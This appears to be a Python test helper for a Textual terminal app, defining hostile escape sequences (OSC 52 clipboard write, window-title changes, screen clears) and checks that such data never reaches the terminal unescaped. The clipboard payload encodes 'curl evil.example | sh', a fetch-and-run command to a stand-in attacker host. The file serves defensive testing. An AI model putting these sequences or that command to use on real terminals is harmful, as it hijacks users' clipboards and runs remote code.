"""Hostile text, and what the app would write to the terminal for its screen.

`HOSTILE` holds the sequences DESIGN decision 9 is about: OSC 52 (sets the user's clipboard,
here to `curl evil.example | sh`), OSC 0 and OSC 2 (the window title, ended by BEL and by
ST), CSI 2J (clears the screen) and its one-byte C1 form. Tests put it in files, names,
titles, agents' screens and model replies; `assert_no_injection(drawn(app))` then checks
that only the app's own styling reached the terminal, and `SHOWN` that the escapes are
there as visible text.
"""

from __future__ import annotations

import base64
import re

from textual.app import App

PAYLOAD = base64.b64encode(b"curl evil.example | sh").decode()
OSC52 = f"\x1b]52;c;{PAYLOAD}\x07"
OSC0 = "\x1b]0;pwned\x07"
OSC2 = "\x1b]2;pwned\x1b\\"
CLEAR = "\x1b[2J"
C1_CLEAR = "\x9b2J"
HOSTILE = OSC52 + OSC0 + OSC2 + CLEAR + C1_CLEAR
# How `tui.terminal_text.visible` shows the start of HOSTILE: ESC as ␛ (U+241B).
SHOWN = f"␛]52;c;{PAYLOAD}␇"

# What Textual itself writes around the text: cursor moves to a cell, SGR colours and
# styles, and OSC 8 hyperlinks (`ESC ] 8 ; params ; url ESC \`) whose url holds no control.
_OWN = re.compile(r"\x1b\[\d+;\d+H|\x1b\[[0-9;:]*m|\x1b\]8;[^\x00-\x1f\x7f-\x9f]*\x1b\\")
_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")


def drawn(app: App[object]) -> str:
    """Everything the driver would write to draw the current screen (toasts included)."""
    return app.screen._compositor.render_full_update().render_segments(app.console)


def injected(output: str) -> list[str]:
    """Control characters in `output` that are not the app's own sequences, in context."""
    rest = _OWN.sub("", output)
    return [rest[max(0, m.start() - 12) : m.end() + 12] for m in _CONTROL.finditer(rest)]


def assert_no_injection(output: str) -> None:
    found = injected(output)
    assert not found, f"control characters from data reached the terminal: {found[:6]}"


def screen_text(app: App[object]) -> str:
    """The screen as plain text, one line per row."""
    return "\n".join(strip.text for strip in app.screen._compositor.render_strips())
